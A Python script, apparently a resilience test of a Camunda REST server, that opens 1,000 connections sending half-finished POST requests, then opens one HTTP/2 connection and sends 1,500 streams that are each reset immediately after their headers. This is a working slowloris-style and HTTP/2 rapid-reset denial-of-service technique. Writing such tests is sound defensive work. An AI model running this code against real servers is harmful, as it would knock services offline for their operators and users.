"""Opens a thousand connections by REST, most of them for half a request, then 1 500 streams of HTTP/2 that it resets at once."""
import os
import socket
import struct
import urllib.parse

address = urllib.parse.urlsplit(os.environ["CAMUNDA_REST_ADDRESS"])


def opened():
    return socket.create_connection((address.hostname, address.port), timeout=5)


def end(connection):
    """Waits for the other side's end: sockets that nobody has closed yet would count as this worker's memory."""
    try:
        connection.shutdown(socket.SHUT_WR)
        while connection.recv(4096):
            pass
    except OSError:
        pass
    connection.close()


kept = []
refused = 0
for number in range(1_000):
    try:
        kept.append(opened())
        kept[-1].sendall(b"POST /v2/jobs/activation HTTP/1.1\r\nHost: a\r\nContent-Le")
    except OSError:
        refused += 1
    if len(kept) > 40:
        end(kept.pop(0))
for one in kept:
    end(one)
print("connections refused:", refused)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header(name, value):
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


HEAD = b"".join(
    header(*pair)
    for pair in (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", b"/v2/jobs/activation"),
        (b":authority", b"localhost"),
        (b"content-type", b"application/json"),
    )
)
sent = 0
try:
    with opened() as connection:
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
        for number in range(1_500):
            stream = 2 * number + 1
            # headers that end, then CANCEL
            connection.sendall(frame(1, 4, stream, HEAD) + frame(3, 0, stream, struct.pack(">I", 8)))
            sent += 1
except OSError as error:
    print(type(error).__name__)
print("streams reset:", sent)
